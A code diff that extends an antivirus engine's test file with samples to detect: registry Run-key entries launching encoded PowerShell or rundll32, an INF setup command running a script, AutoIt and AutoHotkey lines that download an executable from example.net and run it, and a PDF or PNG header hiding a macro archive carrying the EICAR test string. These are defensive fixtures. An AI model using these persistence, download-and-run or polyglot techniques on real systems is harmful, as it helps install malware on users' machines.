@@ -1,5 +1,6 @@
 """What attackers have lately hidden files in, or sent instead of files; and the harmless of the same kind."""
 
+import base64
 import io
 import math
 import struct
@@ -11,6 +12,7 @@ import pytest
 
 from gatepost.antivirus.builtin import BuiltinEngine, packaged_sources
 from gatepost.antivirus.compiling import compile_knowledge
+from gatepost.antivirus.page_archives import find_page_archive
 from gatepost.antivirus.stage import inspect
 from gatepost.model.finding import ObjectStatus, ScanOptions
 
@@ -54,6 +56,17 @@ def entry(command: str) -> bytes:
     return f"[Desktop Entry]\nType=Application\nExec={command}\n".encode()
 
 
+def registry(key: str, value: str, charset: str = "ascii") -> bytes:
+    text = f'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\{key}]\r\n"a"="{value}"'
+    return text.encode(charset)
+
+
+def setup(section: str) -> bytes:
+    text = f'[version]\r\nsignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n{section}\r\n'
+    return text.encode()
+
+
+AUTOMATION = "Heuristic.Script.Automation"
 SUSPICIOUS = [
     ("a.library-ms", library("\\\\192.0.2.1@80\\DavWWWRoot"), "Heuristic.Shortcut.Library"),
     ("a.searchConnector-ms", library("https://example.net/dav"), "Heuristic.Shortcut.Library"),
@@ -88,6 +101,11 @@ SUSPICIOUS = [
         b'var a=["WScr","ipt.Sh","ell"];var o=new ActiveXObject(a.join(""));o["R"+"un"]("cm"+"d");',
         "Heuristic.Script.Obfuscated",
     ),
+    ("a.reg", registry("CurrentVersion\\Run", "powershell -enc AAAA"), "Heuristic.Shortcut.Registry"),
+    ("a.reg", registry("CurrentVersion\\Run", "rundll32 a.dll,x", "utf-16"), "Heuristic.Shortcut.Registry"),
+    ("a.inf", setup("[x]\r\npowershell -File a.ps1"), "Heuristic.Shortcut.Setup"),
+    ("a.au3", b'InetGet("http://example.net/a", @TempDir & "\\a.exe")\r\nRun(@TempDir & "\\a.exe")', AUTOMATION),
+    ("a.ahk", b"UrlDownloadToFile, http://example.net/a, %A_Temp%\\a.exe\r\nRun, %A_Temp%\\a.exe", AUTOMATION),
 ]
 HARMLESS = [
     ("a.library-ms", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
@@ -99,6 +117,11 @@ HARMLESS = [
     ("a.msc", console("Certificates")),
     ("a.desktop", entry("/usr/bin/viewer %f")),
     ("a.exe", PROGRAM),
+    ("a.reg", registry("Explorer\\Advanced", "1")),
+    ("a.reg", registry("CurrentVersion\\Run", "C:\\\\Program Files\\\\Backup\\\\tray.exe")),
+    ("a.inf", setup("[x]\r\nprinter.dll")),
+    ("a.au3", b'MsgBox(0, "Example", "Run (this) again")'),
+    ("a.ahk", b"^j::Send, My first script"),
 ]
 
 
@@ -200,3 +223,39 @@ def test_name_of_a_threat_does_not_depend_on_what_was_scanned_before() -> None:
     for name, data, _ in SUSPICIOUS:
         verdict(data, name, engine)
     assert verdict(both, "a.desktop", engine) == first == (ObjectStatus.SUSPICIOUS, "Heuristic.Shortcut.Desktop")
+
+
+ARCHIVE = (
+    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n'
+    b'<html><link rel=Edit-Time-Data href="a.mso">\r\n--x\r\nContent-Location: a.mso\r\nContent-Type: application/x-mso\r\n'
+    b"Content-Transfer-Encoding: base64\r\n\r\n"
+    + base64.encodebytes(b"ActiveMime\0\0" + bytes(38) + zlib.compress(av_samples.BASE))
+    + b"\r\n--x--\r\n"
+)
+PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n"
+
+
+@pytest.mark.parametrize(
+    "front",
+    [
+        PDF,
+        PDF + b"%%EOF\n",
+        PDF + b"2 0 obj\n",
+        PDF + b"Subject: x\r\nFrom: y\r\n",
+        b"\x89PNG\r\n\x1a\n" + bytes(60) + b"\n",
+    ],
+    ids=["document", "behind its end", "in an object", "with more fields", "picture"],
+)
+@pytest.mark.parametrize("archive", [ARCHIVE, ARCHIVE.replace(b"MIME-Version", b"mIME-vERSION")], ids=["usual", "case"])
+def test_a_document_saved_as_mail_behind_the_mark_of_another_file(front: bytes, archive: bytes) -> None:
+    """Word opens it by its name and runs its macros."""
+    assert verdict(front + archive, "a.doc") == (ObjectStatus.INFECTED, "EICAR-Test-File")
+
+
+def test_a_page_archive_is_found_where_its_fields_begin() -> None:
+    fields = b"Subject: x\r\n folded\r\nContent-Type: text/html\r\nMIME-Version: 1.0\r\n\r\n"
+    assert find_page_archive(fields) == 0
+    assert find_page_archive(b"%PDF\n\n" + fields) == 6
+    assert find_page_archive(b"%PDF\n a MIME-Version: 1.0\nContent-Type: a/b") == -1
+    assert find_page_archive(b"MIME-Version: 1.0\r\n" * 200) == -1
+    assert find_page_archive(b"") == -1
